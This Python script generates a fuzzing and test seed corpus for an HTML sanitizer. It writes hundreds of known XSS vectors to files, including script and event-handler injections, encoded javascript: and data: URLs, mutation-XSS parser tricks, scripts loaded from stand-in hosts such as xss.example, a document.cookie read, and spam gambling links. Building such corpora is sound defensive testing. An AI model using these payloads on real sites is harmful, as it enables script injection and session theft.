#!/usr/bin/env python3
"""Writes the sanitizer's seed corpus, fuzz/corpus/sanitizer/xss-NNN.html: well-known XSS vector shapes
(script and event handlers, javascript:/data:/vbscript: URLs with encodings, SVG and MathML,
CSS expressions, mutation XSS through parser quirks, comments, CDATA, malformed and deeply
nested markup, injected gambling links) and their combinations of tag × handler × URL form.
The XSS corpus test (publishing XssCorpusTest) checks every file comes out inert; the fuzz
target starts from them. Run again after adding a vector; the files are committed."""
import itertools
import os

HERE = os.path.dirname(os.path.abspath(__file__))

CLASSIC = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//xss.example/xss.js></SCRIPT>',
    '<script/src="data:text/javascript,alert(1)"></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1);//<</script>',
    '<script\x0d\x0a>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=javascript:alert(\'XSS\')>',
    '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<IMG SRC="javascript:alert(\'XSS\')"',
    '<IMG DYNSRC="javascript:alert(\'XSS\')">',
    '<IMG LOWSRC="javascript:alert(\'XSS\')">',
    '<img src="/media/abcdefghijklmnop" onload="alert(1)">',
    '<img src="/media/abcdefghijklmnop&quot; onerror=alert(1)">',
    '<img src="//evil.example/x.png">',
    '<img src="https://evil.example/x.png" alt="x">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<BODY ONLOAD=alert(\'XSS\')>',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<BR SIZE="&{alert(\'XSS\')}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<STYLE>@import\'http://xss.example/xss.css\';</STYLE>',
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">',
    '<p style="x:expression(alert(1))">css</p>',
    '<p style="behavior: url(xss.htc);">x</p>',
    '<XSS STYLE="xss:expression(alert(\'XSS\'))">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
    '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#0000115cript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">protocol relative</a>',
    '<a href="\\\\evil.example/">backslashes</a>',
    '<a href="/\\evil.example/">slash backslash</a>',
    '<a href="http://evil.example/" target="_self" rel="opener">x</a>',
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    '<a href="https://www.365.com/">365.com线路检测</a>',
    '<a href="https://example.org/" id="__proto__" name="cookie" class="x">clobber</a>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input onfocus=alert(1) autofocus>',
    '<select onfocus=alert(1) autofocus>',
    '<textarea onfocus=alert(1) autofocus>',
    '<keygen onfocus=alert(1) autofocus>',
    '<video><source onerror="alert(1)">',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<object data="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<isindex action="javascript:alert(1)" type=image>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<title><img src="</title><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet type="text/xsl" href="data:,%3Cxsl:transform"?>',
    '<!DOCTYPE x [<!ENTITY xss "<script>alert(1)</script>">]><p>&xss;</p>',
    '<p title="&quot;><script>alert(1)</script>">x</p>',
    '<p title=\'\'onmouseover=alert(1)//\'>x</p>',
    '<p/onmouseover=alert(1)>x</p>',
    '<p\tonmouseover=alert(1)>x</p>',
    '<p\x0conmouseover=alert(1)>x</p>',
    '<p onmouseover\x00=alert(1)>x</p>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img/src/onerror=alert(1)>',
    '<img\x00src=x onerror=alert(1)>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '\x3cscript\x3ealert(1)\x3c/script\x3e',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<scr\x00ipt>alert(1)</scr\x00ipt>',
    '<div><table><tr><td><form><p><table><caption></div><img src=x onerror=alert(1)>',
    '<table><td><template><svg><foreignobject><p><img src=x onerror=alert(1)>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mi><table><mi><a>',
    '<a href="https://example.org/">ok</a><a href="https://example.org/"><a href="javascript:alert(1)">nested</a></a>',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<x onclick=alert(1)>click</x>',
    '<custom-element onclick=alert(1)>c</custom-element>',
    '<a href="https://example.org/" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</a>',
    '<h1 onclick=alert(1)>title</h1>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="javascript:alert(1)">q</q>',
    '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
    '<td colspan="2" onmouseover="alert(1)">x</td>',
    '<table><th rowspan="x&quot; onmouseover=&quot;alert(1)">x</th></table>',
    '<img src="/media/abcdefghijklmnop" width="100" height="100" onerror="alert(1)" style="x" alt="ok">',
    '<img src="/media/../../etc/passwd">',
    '<img src="/media/abcdefghijklmnop?x=javascript:alert(1)">',
    '<a href="/site/1/articles/1" onclick="alert(1)">relative</a>',
    '<a href="?q=&lt;script&gt;">query</a>',
    '<a href="#" onclick="alert(1)">hash</a>',
    '<a href="https://example.org/\u202egnp.exe">rtl</a>',
    '<a href="https://exa\u200bmple.org/">zero width</a>',
    '<a href="http://127.0.0.1:8080/api/v1/accounts">internal</a>',
    '<a href="https://example.org/" rel="noreferrer opener">rel</a>',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<applet code="javascript:alert(1)"></applet>',
    '<script type="text/template"><img src=x onerror=alert(1)></script>',
    '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<p>&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;</p>',
    '<p>\u003cscript\u003ealert(1)\u003c/script\u003e</p>',
    '<p>365.com线路检测 &gt; 群团工作 &gt; 共青团工作</p>',
    '<p>３６５．ｃｏｍ线 路 检 测</p>',
    '<a href="https://365.com/">下载</a>',
    '<a href="https://www.365.com.evil.example/">x</a>',
    '<p>' + '<div>' * 200 + 'deep' + '</div>' * 200 + '</p>',
    '<b>' * 100 + 'unclosed',
    '<table>' * 60 + 'tables',
    '<ul><li>' * 80 + 'lists',
    '<a href="https://example.org/">' * 50 + 'links',
    '<p title="' + 'a' * 5000 + '">long attribute</p>',
    '<' * 1000,
    '<p>' + '&' * 500 + '</p>',
    '<img ' + 'a=1 ' * 300 + 'onerror=alert(1)>',
    '</p></div></body></html><script>alert(1)</script>',
    '<html><head><script>alert(1)</script></head><body onload=alert(1)></body></html>',
    '<body><p>ok</p></body><body onload=alert(1)>',
    '<head><base href="https://evil.example/"></head><a href="x">x</a>',
    '\ufeff<script>alert(1)</script>',
    '<\x00script>alert(1)</script>',
    '<p>\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe</p>',
]

TAGS = ['img src=x', 'p', 'a href="https://example.org/"', 'table', 'td', 'li', 'h2', 'svg', 'div', 'span',
        'body', 'video', 'iframe']
HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ONERROR', 'oNlOaD', 'onanimationstart',
            'onpointerenter', 'onbeforeprint']
URLS = ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)',
        'java&#115;cript:alert(1)', '&#106;avascript:alert(1)', 'javascript&#58;alert(1)',
        'data:text/html,<script>alert(1)</script>', 'DATA:text/html;base64,PHNjcmlwdD4=', 'vbscript:msgbox(1)',
        '//evil.example', '\\\\evil.example', 'jar:http://evil.example!/', 'livescript:alert(1)',
        'javas\x00cript:alert(1)', '\x01javascript:alert(1)']
URL_ATTRS = [('a', 'href'), ('img', 'src'), ('iframe', 'src'), ('form', 'action'), ('blockquote', 'cite'),
             ('area', 'href'), ('object', 'data')]


def vectors():
    out = list(CLASSIC)
    for tag, handler in itertools.product(TAGS, HANDLERS):
        name = tag.split()[0]
        out.append(f'<{tag} {handler}="alert(1)">x</{name}>')
    for (tag, attr), url in itertools.product(URL_ATTRS, URLS):
        out.append(f'<{tag} {attr}="{url}">x</{tag}>')
    return out


def main():
    corpus = os.path.join(HERE, 'corpus', 'sanitizer')
    os.makedirs(corpus, exist_ok=True)
    for name in os.listdir(corpus):
        if name.startswith('xss-'):
            os.remove(os.path.join(corpus, name))
    seen = set()
    n = 0
    for v in vectors():
        if v in seen:
            continue
        seen.add(v)
        n += 1
        with open(os.path.join(corpus, f'xss-{n:03d}.html'), 'wb') as f:
            f.write(v.encode('utf-8', 'surrogateescape'))
    print(f'{n} vectors in {corpus}')


if __name__ == '__main__':
    main()
